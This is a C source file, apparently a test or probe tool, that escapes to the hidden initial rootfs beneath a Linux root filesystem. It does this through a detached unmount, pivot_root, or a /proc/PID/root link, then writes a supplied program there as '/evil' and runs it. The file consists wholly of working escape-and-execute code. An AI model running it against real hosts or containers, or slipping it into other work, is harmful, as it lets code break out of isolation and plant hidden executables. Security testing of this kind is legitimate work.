/*
 * hidden.c - go to the rootfs that the initramfs was, write a program there, run it
 *
 * Usage: hidden detach PROGRAM
 *        hidden pivot PROGRAM
 *        hidden through PATH PROGRAM
 *
 * detach: lazily unmount / in a private copy of the mount namespace and enter that copy again,
 * which leads to what is left at its bottom. pivot: the same after a pivot_root. through: PATH is a
 * link to a directory there (/proc/PID/fd/N, /proc/PID/root). Status 126 if the program may not
 * run, 3 if there is no rootfs to be found or it takes no file. SPDX-License-Identifier: MIT
 */

#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/vfs.h>
#include <unistd.h>

static char program[1 << 20];

static void fail(const char *what)
{
	perror(what);
	exit(3);
}

static void detach(void)
{
	int ns = open("/proc/self/ns/mnt", O_RDONLY);

	if (ns < 0)
		fail("/proc/self/ns/mnt");
	if (umount2("/", MNT_DETACH))
		fail("umount2");
	if (setns(ns, CLONE_NEWNS))
		fail("setns");
}

int main(int argc, char **argv)
{
	char *none[] = {"evil", NULL};
	struct statfs is;
	FILE *file;
	size_t size;
	int fd;

	if (argc < 3)
		return 2;
	file = fopen(argv[argc - 1], "r");
	if (!file)
		fail(argv[argc - 1]);
	size = fread(program, 1, sizeof(program), file);
	fclose(file);
	if (!strcmp(argv[1], "through")) {
		fd = open(argv[2], O_RDONLY | O_DIRECTORY);
		if (fd < 0 || fchdir(fd) || chroot("."))
			fail(argv[2]);
	} else {
		if (unshare(CLONE_NEWNS) || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL))
			fail("unshare");
		if (!strcmp(argv[1], "pivot")) {
			mkdir("/tmp/new", 0755);
			if (mount("new", "/tmp/new", "tmpfs", 0, NULL) || chdir("/tmp/new") ||
				mkdir("old", 0755) || mkdir("proc", 0755) ||
				syscall(SYS_pivot_root, ".", "old") || chdir("/") ||
				mount("proc", "/proc", "proc", 0, NULL))
				fail("pivot_root");
		}
		detach();
	}
	if (!statfs("/", &is))
		printf("at the bottom is a file system of type %#lx\n", (unsigned long)is.f_type);
	fd = open("/evil", O_WRONLY | O_CREAT | O_TRUNC, 0755);
	if (fd < 0 || write(fd, program, size) != (ssize_t)size)
		fail("/evil");
	close(fd);
	execv("/evil", none);
	perror("/evil");
	return 126;
}
